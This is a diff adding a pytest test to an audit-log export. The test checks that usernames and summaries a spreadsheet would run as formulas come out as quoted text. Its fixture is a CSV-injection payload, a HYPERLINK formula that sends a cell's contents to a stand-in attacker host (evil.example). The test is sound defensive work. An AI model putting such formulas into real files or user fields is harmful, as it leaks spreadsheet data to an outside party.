@@ -264,3 +264,17 @@ def test_audit_record_many_writes_one_entry_per_object_under_the_same_rules(worl
     stored = list(AuditEntry.objects.order_by("id").values_list("actor_label", "object_type", "object_id", "purpose"))
     assert stored == [("beratung", "network.organisation", str(item.pk), "placement") for item in objects]
     assert all(item.at is not None for item in AuditEntry.objects.all())
+
+
+def test_the_export_hands_a_spreadsheet_no_formula(dpo, world):
+    """A user name that a spreadsheet would run as a formula arrives as text (leading quote, OWASP)."""
+    caseworker = world.user(Role.CASEWORKER)
+    caseworker.username = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    caseworker.save()
+    entry(caseworker, object_id="17", summary="@SUM(A1:A9)", purpose="counselling")
+
+    content = b"".join(dpo.get(reverse("audit:export")).streaming_content).decode("utf-8-sig")
+
+    row = list(csv.reader(io.StringIO(content)))[1]
+    assert row[1] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
+    assert row[6] == "'@SUM(A1:A9)"
